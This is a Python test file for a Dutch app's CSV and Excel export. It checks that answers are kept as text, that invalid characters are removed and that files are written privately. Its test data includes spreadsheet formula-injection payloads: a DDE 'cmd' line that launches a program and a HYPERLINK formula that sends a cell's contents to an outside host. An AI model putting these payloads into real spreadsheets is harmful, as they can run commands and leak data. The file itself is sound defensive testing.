"""Lists for spreadsheets: every cell is text, and none is lost."""

import csv
import io
import re
import stat
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from samenkomst.stores.export import to_csv, to_xlsx
from samenkomst.stores.private_file import write_private
from tests.builders import HOSTILE

HEADING = ["Kenmerk", "Uw naam"]
FORMULAS = [
    "=1+1",
    "+31 6 12345678",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\n=1+1",
    "\x00=1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("https://example.com/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
]
TEXTS = [
    "Noor Bakker",
    HOSTILE,
    'een;twee\n"drie"',
    "06 12345678",
    "0012",
    "1,5",
    "1-2",
    "2022-03-29",
    "TRUE",
    "Zoë – ‘één’ 😀",
    "",
]


def read_sheet(rows: list[list[str]], title: str = "ronde-tafel") -> Worksheet:
    sheet = load_workbook(io.BytesIO(to_xlsx(rows, title))).active
    assert isinstance(sheet, Worksheet)
    return sheet


def read_xlsx(rows: list[list[str]]) -> list[list[object]]:
    return [[cell.value or "" for cell in row] for row in read_sheet(rows).iter_rows()]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("value", FORMULAS + TEXTS)
def test_workbook_keeps_a_value_as_text(value: str) -> None:
    """`openpyxl` makes a live formula of what begins with "=", unless the type says otherwise."""
    sheet = read_sheet([HEADING, ["K7QM-2XHD", value]])
    cell = sheet["B2"]
    assert (cell.value or "") == value.replace("\x00", "")
    assert cell.data_type in ("s", "inlineStr")
    assert cell.quotePrefix
    assert cell.hyperlink is None


def test_workbook_holds_no_formula_in_its_own_words() -> None:
    """In the file itself, past the library that wrote and reads it."""
    rows = [HEADING, *([value, value] for value in FORMULAS)]
    with zipfile.ZipFile(io.BytesIO(to_xlsx(rows, "x"))) as book:
        text = "".join(book.read(name).decode() for name in book.namelist())
    assert "=HYPERLINK(" in text
    assert re.findall(r"<f[\s/>]", text) == []


def test_workbook_opens_with_its_heading_in_view() -> None:
    sheet = read_sheet([HEADING, ["K7QM-2XHD", "x" * 100]])
    assert (sheet.freeze_panes, sheet.title) == ("A2", "ronde-tafel")
    assert [bool(sheet[cell].font.bold) for cell in ("A1", "B1", "A2")] == [True, True, False]
    widths = [sheet.column_dimensions[letter].width for letter in "AB"]
    assert widths == [11, 60]


@pytest.mark.parametrize("count", [1, 26, 27, 52, 53, 80])
def test_workbook_takes_any_number_of_columns(count: int) -> None:
    rows = [[f"kop {number}" for number in range(count)], [f"{number}" for number in range(count)]]
    assert read_xlsx(rows) == rows


def test_workbook_without_submissions_has_a_heading() -> None:
    assert read_xlsx([HEADING]) == [HEADING]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("leernetwerk-aan-de-slag-met-werkdruk", "leernetwerk-aan-de-slag-met-wer"),
        ("a[b]:c*d?e/f\\g", "a b  c d e f g"),
        ("", "Lijst"),
    ],
)
def test_sheet_has_a_title_that_excel_takes(title: str, expected: str) -> None:
    assert read_sheet([HEADING], title).title == expected


NOT_IN_XML = ["\x00", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\uffff", "\ud800"]


@pytest.mark.parametrize("character", NOT_IN_XML, ids=ascii)
def test_character_that_xml_cannot_hold_is_left_out(character: str) -> None:
    """One of these in one answer would make the whole workbook unreadable."""
    assert read_xlsx([HEADING, ["a", f"x{character}y"]]) == [HEADING, ["a", "xy"]]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_guards_what_could_be_a_formula(value: str) -> None:
    assert read_csv(to_csv([[value]])) == [[f"'{value}"]]


@pytest.mark.parametrize("value", [text for text in TEXTS if not text.startswith("<")])
def test_csv_keeps_other_text_as_it_is(value: str) -> None:
    assert read_csv(to_csv([[value, "x"]])) == [[value, "x"]]


def test_csv_opens_well_in_a_dutch_excel() -> None:
    assert to_csv([["Naam", "Één"], ["a;b", 'zij "zei"']]) == (
        '\ufeff"Naam";"Één"\r\n"a;b";"zij ""zei"""\r\n'.encode()
    )


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_csv_gives_every_value_back(row: list[str]) -> None:
    """With no more than one apostrophe in front, and never a row more."""
    (found,) = read_csv(to_csv([row]))
    assert [cell in (value, f"'{value}") for cell, value in zip(found, row, strict=True)] == (
        [True] * len(row)
    )


def test_file_is_private_and_replaces_what_stood_there(tmp_path: Path) -> None:
    path = tmp_path / "exports" / "ronde-tafel.csv"
    write_private(path, b"een")
    write_private(path, b"twee")
    assert path.read_bytes() == b"twee"
    assert [each.name for each in path.parent.iterdir()] == ["ronde-tafel.csv"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_file_is_not_written_through_a_link(tmp_path: Path) -> None:
    """Whoever can write in the folder must not choose where the answers go."""
    elsewhere = tmp_path / "elders"
    elsewhere.write_bytes(b"")
    path = tmp_path / "lijst.csv"
    path.symlink_to(elsewhere)
    (tmp_path / ".lijst.csv.part").symlink_to(elsewhere)
    write_private(path, b"geheim")
    assert elsewhere.read_bytes() == b""
    assert (path.read_bytes(), path.is_symlink()) == (b"geheim", False)
